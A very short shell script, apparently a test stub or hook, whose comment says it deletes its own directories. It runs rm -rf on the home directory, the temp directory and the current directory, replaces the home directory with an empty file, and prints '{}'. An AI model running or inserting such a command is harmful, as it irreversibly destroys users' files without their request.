#!/bin/sh
# Removes its own directories, and puts a file in the place of one.
rm -rf "$HOME" "$TMPDIR" "$(pwd)"
: > "$HOME"
echo '{}'
